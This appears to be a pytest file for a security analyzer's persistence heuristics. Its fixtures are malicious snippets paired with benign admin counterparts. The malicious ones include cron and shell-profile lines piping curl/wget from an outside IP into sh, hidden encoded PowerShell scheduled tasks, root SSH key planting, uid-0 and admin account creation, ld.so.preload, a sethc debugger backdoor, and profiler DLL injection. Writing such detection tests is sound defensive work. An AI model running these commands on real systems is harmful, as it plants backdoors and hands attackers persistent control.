"""Persistence: creating a job is dual-use; what the job runs makes it suspicious."""

from __future__ import annotations

import pytest

from inspector.model import ArtifactType
from tests.analyzers.heuristics.helpers import ids, score

PS = ArtifactType.POWERSHELL
CMD = ArtifactType.CMD


@pytest.mark.parametrize(
    ("text", "language", "expected"),
    [
        ('(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.5/x | sh") | crontab -', ArtifactType.SHELL,
         "heur.persistence.cron_payload"),
        ('echo "@reboot /tmp/.x/run" | crontab -', ArtifactType.SHELL, "heur.persistence.cron_payload"),
        ("[Service]\nExecStart=/dev/shm/.k/kworker -c /dev/shm/.k/c.json\n", ArtifactType.SHELL,
         "heur.persistence.systemd_payload"),
        ("echo 'curl -s http://203.0.113.5/x | bash &' >> ~/.bashrc", ArtifactType.SHELL,
         "heur.persistence.shell_rc_payload"),
        ("echo 'wget -qO- http://203.0.113.5/x | sh' | tee -a ~/.profile", ArtifactType.SHELL,
         "heur.persistence.shell_rc_payload"),
        ("echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", ArtifactType.SHELL,
         "heur.persistence.root_authorized_keys"),
        ('schtasks /create /tn Upd /tr "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" /sc onstart /ru SYSTEM',
         CMD, "heur.persistence.scheduled_task_payload"),
        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d C:\Users\Public\u.exe /f", CMD,
         "heur.persistence.run_key"),
        ('sc create Upd binPath= "cmd.exe /c C:\\Users\\Public\\svc.exe" start= auto', CMD,
         "heur.persistence.service_payload"),
        ("Set-WmiInstance -Class __EventFilter -Arguments $f\nSet-WmiInstance -Class CommandLineEventConsumer", PS,
         "heur.persistence.wmi_subscription"),
        ("net user support P@ss1 /add\nnet localgroup administrators support /add", CMD,
         "heur.persistence.new_local_admin"),
        ("New-LocalUser -Name x -Password $p\nAdd-LocalGroupMember -Group Administrators -Member x", PS,
         "heur.persistence.new_local_admin"),
        ("useradd -o -u 0 -g 0 -M toor", ArtifactType.SHELL, "heur.persistence.new_local_admin"),
        ('echo "/usr/lib/libx.so" > /etc/ld.so.preload', ArtifactType.SHELL, "heur.persistence.ld_preload"),
        (r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" '
         r"/v Debugger /d cmd.exe", CMD, "heur.persistence.winlogon_ifeo"),
    ],
)
def test_persistence_running_payloads_is_detected(text: str, language: ArtifactType, expected: str) -> None:
    assert expected in ids(text, language)
    assert score(text, language) >= 300


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ('echo "30 2 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup', ArtifactType.SHELL),
        ("cat > /etc/systemd/system/app.service <<EOF\n[Service]\nExecStart=/srv/app/.venv/bin/gunicorn app:app\n"
         "EOF\nsystemctl enable --now app", ArtifactType.SHELL),
        ("echo 'export PATH=$PATH:/usr/local/go/bin' >> ~/.bashrc", ArtifactType.SHELL),
        ('schtasks /create /tn Backup /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:30 /ru SYSTEM', CMD),
        ("New-Service -Name app -BinaryPathName 'C:\\Program Files\\Contoso\\app.exe' -StartupType Automatic", PS),
        ("Add-LocalGroupMember -Group 'Administrators' -Member 'CONTOSO\\Server Admins'", PS),
        ("useradd -m deploy && usermod -aG sudo deploy", ArtifactType.SHELL),
        ("[Service]\nExecStartPre=-/bin/sh -c 'if [ -e /var/lib/app/state/cache.bin ]; then rm /var/lib/app/state/"
         "cache.bin; fi'\nExecStart=/usr/bin/app\n", ArtifactType.SHELL),
        ("mkdir -p /root/.ssh && chmod 700 /root/.ssh\n"
         "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config && systemctl restart sshd", ArtifactType.SHELL),
    ],
)
def test_ordinary_admin_persistence_stays_below_suspicious(text: str, language: ArtifactType) -> None:
    assert score(text, language) < 300


def test_a_powershell_encoded_command_in_a_unit_is_a_payload_but_a_path_after_test_e_is_not() -> None:
    encoded = "[Service]\nExecStart=powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n"
    assert "heur.persistence.systemd_payload" in ids(encoded, ArtifactType.SHELL)
    path = "[Service]\nExecStartPost=/bin/sh -c 'test -e /var/lib/app/instance/state.db || true'\n"
    assert "heur.persistence.systemd_payload" not in ids(path, ArtifactType.SHELL)


def test_permitting_root_login_is_recorded_apart_from_planting_a_root_key() -> None:
    relaxed = ids("sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", ArtifactType.SHELL)
    assert "heur.persistence.sshd_root_login" in relaxed
    assert "heur.persistence.root_authorized_keys" not in relaxed


@pytest.mark.parametrize(("text", "language"), [
    ('$env:COR_ENABLE_PROFILING = 1\n$env:COR_PROFILER = "{0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0}"\n'
     '$env:COR_PROFILER_PATH = "C:\\Users\\Public\\prof.dll"\nStart-Process notepad', ArtifactType.POWERSHELL),
    ('set "DOTNET_STARTUP_HOOKS=%TEMP%\\hook.dll"\ndotnet --info', ArtifactType.CMD),
    ("export CORECLR_ENABLE_PROFILING=1 CORECLR_PROFILER_PATH=/tmp/p.so\ndotnet app.dll", ArtifactType.SHELL),
])
def test_the_dotnet_runtime_told_to_load_a_library_through_the_environment(text: str, language: ArtifactType) -> None:
    assert "heur.registry.clr_profiler" in ids(text, language)


def test_reading_a_profiler_variable_is_not_setting_it() -> None:
    assert "heur.registry.clr_profiler" not in ids('Write-Host "profiler: $env:COR_PROFILER"', ArtifactType.POWERSHELL)
